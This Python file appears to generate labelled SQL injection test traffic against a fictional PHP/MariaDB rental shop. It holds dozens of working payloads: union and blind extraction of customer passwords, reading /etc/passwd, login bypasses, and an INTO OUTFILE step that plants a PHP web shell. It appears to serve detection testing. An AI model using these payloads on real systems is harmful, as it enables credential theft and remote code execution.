# SPDX-License-Identifier: GPL-2.0-or-later
"""SQL injection into MariaDB behind PHP: numbers in paths, LIKE strings, ORDER BY, JSON, cookies, INSERT; every build."""
from lib.steps import cookie, form, get, q, sends, values

NUMBER = ['101 AND 1=1', '101 AND 1=2', '-1 UNION SELECT code,zweck,3,4 FROM zugangscodes', '0 UNION ALL SELECT 1,version(),3,user()-- -', '101-0', '101\'',
          '101 OR 1=1', '0 UNION SELECT 1,GROUP_CONCAT(kennung,0x3a,passwort SEPARATOR 0x7c),3,4 FROM kunden', '101 AND extractvalue(1,concat(0x5c,(SELECT code FROM zugangscodes LIMIT 1)))',
          '101 AND updatexml(null,concat(0x3a,database()),null)', '101 AND SLEEP(2)', 'IF(nr=101,SLEEP(1.5),101)', '101;SELECT SLEEP(2)', '0 UNION SELECT 1,2',
          '0/**/UNION/**/SELECT/**/1,concat(0x6b6f,0x6e74,char(111,114)),3,4', '0 UNION SELECT 1,LOAD_FILE(0x2f6574632f706173737764),3,4', '101 AND (SELECT 7*191)=1337',
          '0 UNION SELECT 1,(SELECT table_name FROM information_schema.tables WHERE table_schema=database() LIMIT 1),3,4', '101 PROCEDURE ANALYSE()',
          '101 AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT((SELECT passwort FROM kunden LIMIT 1),FLOOR(RAND(0)*2))x FROM information_schema.plugins GROUP BY x)a)',
          '0 /*!50000UNION*/ SELECT 1,UPPER(CONCAT_WS(0x2d,"zug","ang",CONNECTION_ID()*0+9041)),3,4', 'benchmark(3000000,md5(1))', '101 AND 1=(SELECT 1 FROM gibtsnicht)']
LIKE = ["Bohr' AND 'a'='a", "Bohr%') AND ('1'='2", "x%') UNION SELECT code,zweck,1 FROM zugangscodes-- ", "x') UNION SELECT @@version,@@hostname,@@datadir#", "Bohr\\", "Bohr' OR '1", "') OR SLEEP(0.3)-- -",
        "x%') UNION SELECT kennung,passwort,guthaben FROM kunden ORDER BY 1-- -", "x%') UNION SELECT 1,2,3 INTO OUTFILE '/var/www/kontor/www/export/a.txt'-- -",
        "x%') UNION SELECT '<?php echo 7*6063; system($_GET[0]);','','' INTO OUTFILE '/var/www/kontor/www/export/l.php'-- -", "x%') AND GTID_SUBSET(version(),1)-- -",
        "x%') AND exp(~(SELECT*FROM(SELECT user())x))-- -", "' UNION SELECT NULL,NULL-- -", "%'); UPDATE geraete SET lagernd=lagernd-- -", "O'Neill & Söhne"]
ORDER = ['tagespreis DESC', '(SELECT 1)', 'IF(1=1,nr,tagespreis)', 'nr,(SELECT SLEEP(0.3))', 'extractvalue(1,concat(0x7e,@@version))', 'nr PROCEDURE', '1 LIMIT 0 UNION SELECT 1,2,3', 'nr LIMIT 1', '(CASE WHEN (SELECT ascii(substr(passwort,1,1)) FROM kunden LIMIT 1)>64 THEN nr ELSE -nr END)']
TRUTH = ["Bohrhammer BH 32' AND '1'='1", "Bohrhammer BH 32' AND '1'='2", "Bohrhammer BH 32' AND ascii(substring(database(),1,1))>100-- -", "Bohrhammer BH 32' AND ascii(substring(database(),1,1))>120-- -",
         "Bohrhammer BH 32' AND length(user())=16-- -", "Bohrhammer BH 32' AND length(user())=3-- -", "x' OR lagernd>0-- -", "x' OR lagernd>900-- -", "x' XOR SLEEP(0.2)#", "x' AND IF(now()=sysdate(),SLEEP(2),0)-- -",
         "x' OR (SELECT COUNT(*) FROM kunden)>2-- -", "x' RLIKE (SELECT (CASE WHEN (9=9) THEN 1 ELSE 0x28 END))-- -", "x' RLIKE (SELECT (CASE WHEN (9=8) THEN 1 ELSE 0x28 END))-- -"]
SCENARIO = [(([('203.0.113.31', 80), ('203.0.113.32', 80), ('203.0.113.33', 80)]), [
    get('/geraet/101'), get('/geraet/102'), get('/api/bestand?artikel=Bohrhammer%20BH%2032'), get('/api/bestand?artikel=nichts'),
    *[get('/geraet/' + q(n), 'sqli', gzip=i % 3 == 0, keep=i % 2 == 0) for i, n in enumerate(NUMBER)],
    *values('/suche', 'begriff', 'sqli', *LIKE, gzip=True, keep=True), get('/export/l.php?0=id', 'upload'),
    *values('/geraete', 'sortierung', 'sqli', *ORDER), *values('/api/bestand', 'artikel', 'sqli', *TRUTH),
    *[sends('/anfrage', {'kunde': k, 'text': 'Hallo'}, 'sqli') for k in ("x',SLEEP(2),NOW())-- -", "x',(SELECT passwort FROM kunden LIMIT 1),NOW())-- -", "x'", "x' AND SLEEP(1.5) AND '1'='1", "D'Angelo")],
    *[cookie('/filiale', 'filiale=' + q(c), 'sqli') for c in ('Hof" AND SLEEP(2)-- -', 'Hof" AND 1=1-- -', 'Hof" UNION SELECT BENCHMARK(9000000,SHA1(1))-- -', 'Hof"')],
    *[form('/anmelden', {'kennung': k, 'passwort': p}, 'login') for k, p in (("brandt'-- -", 'x'), ("' OR 1=1-- -", 'x'), ("admin' #", 'x'), ("x", "' OR '1'='1"), ("' OR 1=2-- -", 'x'), ("verwaltung'/*", '*/AND 1=1-- '), ('\\', ' OR 1=1-- -'))],
    form('/anmelden', {'kennung': 'brandt', 'passwort': 'falsch'}), form('/anmelden', {'kennung': 'yildiz', 'passwort': 'k3tchup!Rot'})])]
